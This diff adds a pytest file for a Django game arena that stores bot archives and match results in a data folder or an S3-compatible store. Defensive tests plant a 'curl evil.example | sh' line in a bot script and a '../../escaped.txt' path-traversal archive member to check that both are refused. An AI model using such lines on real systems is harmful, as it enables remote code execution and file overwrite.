@@ -1,0 +1,326 @@
+"""The arena's files through Django's storage API: the data folder, or an S3-compatible object
+store (moto's standalone server here, on 127.0.0.1); written once, bot versions unpacked once
+per content into each machine's cache and checked against their hash."""
+
+import doctest
+import hashlib
+import io
+import json
+import os
+import shutil
+import stat
+import tarfile
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from botocore.config import Config
+from config import object_store as object_store_module
+from config.object_store import object_store
+from core import leases, storage
+from django.core.exceptions import ImproperlyConfigured
+from django.db import transaction
+from django.test import Client
+from django.urls import reverse
+from ladders.models import Ladder, Rating
+from matches import bridge, results, scheduler
+from matches.models import Match, entrant_names
+from nimmt_object_store import Bucket, MotoServer, free_port, new_bucket
+from nimmt_site_testing import (
+    CeleryProcess,
+    basic_ladder,
+    make_token,
+    make_user,
+    program_bot,
+    random_bot_upload,
+    wait_for,
+)
+from submissions.models import Bot, BotVersion
+
+from arena.engine.replay import verify
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def cache_dir(settings: Any, tmp_path: Path) -> Path:
+    """A cache of this test's own (the cache is keyed by content: tests would share it)."""
+    settings.CACHE_DIR = tmp_path / "cache"
+    return Path(settings.CACHE_DIR)
+
+
+@pytest.fixture(scope="session")
+def moto(tmp_path_factory: pytest.TempPathFactory) -> Iterator[MotoServer]:
+    server = MotoServer(tmp_path_factory.mktemp("moto") / "moto.log")
+    server.start()
+    yield server
+    server.stop()
+
+
+@pytest.fixture
+def bucket(moto: MotoServer, settings: Any) -> Bucket:
+    """A bucket of this test's own, and the site pointed at it."""
+    made = new_bucket(moto.url)
+    settings.STORAGES = {**settings.STORAGES, "arena": made.storage_settings}
+    return made
+
+
+@pytest.fixture
+def worker_data(data_dir: Path) -> Iterator[Path]:
+    """A data folder for the workers, not the site's (beside it: bots run as uids of their
+    own, who must be able to reach it)."""
+    folder = Path(tempfile.mkdtemp(prefix="worker-data-", dir=data_dir.parent))
+    folder.chmod(0o755)
+    yield folder
+    shutil.rmtree(folder, ignore_errors=True)
+
+
+@pytest.fixture(params=["data folder", "object store"])
+def kept_in(request: pytest.FixtureRequest) -> str:
+    """Each test twice: on the data folder (the default) and on the object store."""
+    if request.param == "object store":
+        request.getfixturevalue("bucket")
+    return str(request.param)
+
+
+def _folder(root: Path) -> Path:
+    (root / "lib").mkdir(parents=True)
+    (root / "nimmt-bot.toml").write_text('name = "x"\ncommand = ["./run"]\n')
+    (root / "run").write_text("#!/bin/sh\n")
+    (root / "run").chmod(0o700)
+    (root / "lib" / "helper.py").write_text("X = 1\n")
+    (root / "lib" / "helper.py").chmod(0o600)
+    return root
+
+
+def _tree(folder: Path) -> dict[str, tuple[bytes | None, int]]:
+    return {
+        p.relative_to(folder).as_posix(): (
+            p.read_bytes() if p.is_file() else None,
+            stat.S_IMODE(p.stat().st_mode),
+        )
+        for p in sorted(folder.rglob("*"))
+    }
+
+
+def test_its_modules_pass_their_docstring_examples() -> None:
+    for module in (storage, object_store_module):
+        result = doctest.testmod(module, optionflags=doctest.ELLIPSIS)
+        assert result.attempted > 0 and result.failed == 0
+
+
+def test_nothing_in_the_arenas_storage_is_written_twice(kept_in: str) -> None:
+    storage.save_new("matches/ab/one/game-00001.json", b"first")
+    with pytest.raises(FileExistsError):
+        storage.save_new("matches/ab/one/game-00001.json", b"second")
+    assert storage.read_bytes("matches/ab/one/game-00001.json") == b"first"
+    with pytest.raises(FileNotFoundError):
+        storage.read_bytes("matches/ab/one/game-00002.json")
+
+
+def test_a_folder_is_packed_alike_every_time_and_unpacked_once_per_content(
+    kept_in: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    folder = _folder(tmp_path / "bot")
+    first = storage.keep_folder(folder, "bots/a.tar.gz")
+    os.utime(folder / "run", (1, 1))  # times and owners are not part of the archive
+    assert storage.keep_folder(folder, "bots/b.tar.gz") == first
+    local = storage.local_tree("bots/a.tar.gz", first)
+    assert local.name == first
+    assert _tree(local) == {
+        "lib": (None, 0o755),
+        "lib/helper.py": (b"X = 1\n", 0o644),  # readable by the bots' own uids
+        "nimmt-bot.toml": (b'name = "x"\ncommand = ["./run"]\n', 0o644),
+        "run": (b"#!/bin/sh\n", 0o755),
+    }
+
+    def no_download(name: str) -> bytes:
+        raise AssertionError(f"downloaded {name} again")
+
+    monkeypatch.setattr(storage, "read_bytes", no_download)
+    assert storage.local_tree("bots/b.tar.gz", first) == local  # same content, same copy
+
+
+def test_an_archive_that_changed_in_the_store_is_never_unpacked(
+    kept_in: str, tmp_path: Path
+) -> None:
+    sha256 = storage.keep_folder(_folder(tmp_path / "bot"), "bots/v.tar.gz")
+    (tmp_path / "bot" / "run").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    storage.arena_storage().delete("bots/v.tar.gz")
+    storage.save_new("bots/v.tar.gz", storage.pack(tmp_path / "bot"))
+    with pytest.raises(storage.StorageError, match="does not match its SHA-256"):
+        storage.local_tree("bots/v.tar.gz", sha256)
+    assert not (storage.cache_root() / sha256).exists()
+    with pytest.raises(storage.StorageError, match="missing"):
+        storage.local_tree("bots/gone.tar.gz", sha256)
+
+
+def test_an_archive_with_a_name_out_of_its_folder_is_refused(kept_in: str) -> None:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        info = tarfile.TarInfo("../../escaped.txt")
+        info.size = 3
+        archive.addfile(info, io.BytesIO(b"bad"))
+    data = buffer.getvalue()
+    storage.save_new("bots/evil.tar.gz", data)
+    with pytest.raises(storage.StorageError, match="not a plain file"):
+        storage.local_tree("bots/evil.tar.gz", hashlib.sha256(data).hexdigest())
+    assert not (storage.cache_root().parent / "escaped.txt").exists()
+    assert not list(storage.cache_root().glob(".unpacking-*"))
+
+
+@pytest.mark.parametrize(
+    ("env", "words"),
+    [
+        ({"NIMMT_S3_ENDPOINT_URL": "http://minio:9000"}, "NIMMT_S3_BUCKET is not"),
+        ({"NIMMT_S3_BUCKET": "Arena_Files"}, "not an S3 bucket name"),
+        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "ftp://minio"}, "http(s)://"),
+        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "http://m:port"}, "bad port"),
+        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ENDPOINT_URL": "http://m/x"}, "http(s)://"),
+        ({"NIMMT_S3_BUCKET": "arena", "NIMMT_S3_ACCESS_KEY_ID": "k"}, "set both"),
+    ],
+)
+def test_the_object_stores_settings_are_read_strictly(env: dict[str, str], words: str) -> None:
+    with pytest.raises(ImproperlyConfigured, match=words.replace("(", r"\(").replace(")", r"\)")):
+        object_store(env)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_an_unreachable_store_refuses_an_upload_with_a_clear_message(
+    client: Client, settings: Any
+) -> None:
+    entry = object_store(
+        {
+            "NIMMT_S3_BUCKET": "arena",
+            "NIMMT_S3_ENDPOINT_URL": f"http://127.0.0.1:{free_port()}",  # nothing listens
+            "NIMMT_S3_ACCESS_KEY_ID": "k",
+            "NIMMT_S3_SECRET_ACCESS_KEY": "s",
+        }
+    )
+    assert entry is not None
+    entry["OPTIONS"]["client_config"] = Config(connect_timeout=1, retries={"max_attempts": 1})
+    settings.STORAGES = {**settings.STORAGES, "arena": entry}
+    alice = make_user("alice")
+    response = client.post(
+        reverse("api-bots"),
+        {"name": "alice-bot", "file": random_bot_upload("x")},
+        headers={"authorization": f"Bearer {make_token(alice)}"},
+    )
+    assert response.status_code == 400, response.content
+    assert "could not keep the upload" in response.json()["error"]
+    assert not Bot.objects.exists() and not BotVersion.objects.exists()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_match_is_kept_once_under_the_name_of_the_attempt_that_holds_it(
+    bucket: Bucket, sandbox_runtime: Path, client: Client
+) -> None:
+    ladder = basic_ladder(players=4)
+    Ladder.objects.filter(pk=ladder.pk).update(duplicate=False)
+    ladder.refresh_from_db()
+    bots = [program_bot(f"quick-{n}") for n in range(4)]
+    with transaction.atomic():
+        match = scheduler.create_match(ladder, bots)
+    running = {"waiting": Match.QUEUED, "working": Match.RUNNING}
+    first = leases.claim(Match, match.pk, **running, lease_seconds=0.2)
+    assert first is not None
+    seats = list(match.seats.select_related("bot", "version").order_by("seat"))
+    first_dir = results.staging_dir(match, first)
+    outcome = bridge.play_match(
+        variant=match.variant,
+        seed=match.seed,
+        games=1,
+        entrants=[
+            bridge.Entrant(name, s.version.code_path())
+            for name, s in zip(entrant_names(seats), seats, strict=True)
+        ],
+        out_dir=first_dir,
+    )
+    time.sleep(0.3)  # the first worker's lease runs out
+    second = leases.claim(Match, match.pk, **running, lease_seconds=30)
+    assert second is not None  # a second worker took the match over
+    second_dir = results.staging_dir(match, second)
+    shutil.copytree(first_dir, second_dir)
+
+    assert results.store(second, outcome, second_dir)
+    assert not results.store(first, outcome, first_dir)  # too late: its claim was lost
+    match.refresh_from_db()
+    assert match.status == Match.FINISHED
+    assert match.result_dir == results.result_dir(match, second)
+    assert second.token.hex[:12] in match.result_dir
+    kept = bucket.stored()
+    assert kept and all(key.startswith(match.result_dir + "/") for key in kept)
+    assert f"{match.result_dir}/game-00001.json" in kept
+    assert not first_dir.exists() and not second_dir.exists()
+    replay = client.get(reverse("match-replay", args=[match.uuid, 1]))
+    assert replay.status_code == 200
+    assert verify(json.loads(b"".join(replay.streaming_content))) == []  # type: ignore[attr-defined]
+    frames = client.get(reverse("match-frames", args=[match.uuid, 1]))
+    assert frames.status_code == 200 and json.loads(frames.content)["format"] == "nimmt-frames/1"
+
+
+@pytest.mark.slow
+@pytest.mark.django_db(transaction=True)
+def test_the_whole_pipeline_runs_on_the_object_store_alone(
+    bucket: Bucket,
+    worker_env: dict[str, str],
+    worker_data: Path,
+    tmp_path: Path,
+    client: Client,
+    data_dir: Path,
+) -> None:
+    """Upload, validation, ladder matches, ratings and the replay page, with the workers on a
+    data folder of their own: the site and the workers share only the database, the broker
+    and the object store."""
+    ladder = basic_ladder(players=4)
+    for name in ("house-a", "house-b", "house-c"):
+        program_bot(name)
+    env = {**worker_env, **bucket.env, "NIMMT_DATA_DIR": str(worker_data)}
+    worker = CeleryProcess.worker(env, tmp_path / "worker.log")
+    beat = CeleryProcess.beat(env, tmp_path / "beat.log", tmp_path / "beat-schedule")
+    worker.start()
+    beat.start()
+    try:
+        alice = make_user("alice")
+        response = client.post(
+            reverse("api-bots"),
+            {"name": "alice-bot", "file": random_bot_upload("x")},
+            headers={"authorization": f"Bearer {make_token(alice)}"},
+        )
+        assert response.status_code == 201, response.content
+        bot = Bot.objects.get(name="alice-bot")
+        version = wait_for(
+            "the upload to pass validation",
+            lambda: BotVersion.objects.filter(bot=bot, status__in=["passed", "failed"]).first(),
+            timeout=90,
+        )
+        assert version.status == "passed", version.validation_log
+        wait_for(
+            "alice-bot to play a rated ladder match",
+            lambda: Rating.objects.filter(bot=bot, ladder=ladder, games__gte=1).first(),
+            timeout=120,
+        )
+    finally:
+        beat.kill()
+        worker.kill()
+    played = Match.objects.filter(status=Match.FINISHED, seats__bot=bot).first()
+    assert played is not None
+    keys = bucket.stored()
+    assert version.code_dir in keys
+    assert f"{played.result_dir}/game-00001.json" in keys
+    assert (worker_data / "cache" / "trees" / version.code_sha256 / "nimmt-bot.toml").is_file()
+    # Nothing kept in either data folder: the object store holds it all.
+    for folder in (data_dir, worker_data):
+        assert not (folder / "bots").exists() and not (folder / "matches").exists()
+    replay = client.get(reverse("match-replay", args=[played.uuid, 1]))
+    assert replay.status_code == 200
+    assert verify(json.loads(b"".join(replay.streaming_content))) == []  # type: ignore[attr-defined]
+    page = client.get(played.get_absolute_url())
+    assert page.status_code == 200 and b"alice-bot" in page.content
+    client.force_login(alice)
+    seat = played.seats.get(bot=bot)
+    log = client.get(reverse("match-log", args=[played.uuid, seat.seat]))
+    assert log.status_code == 200
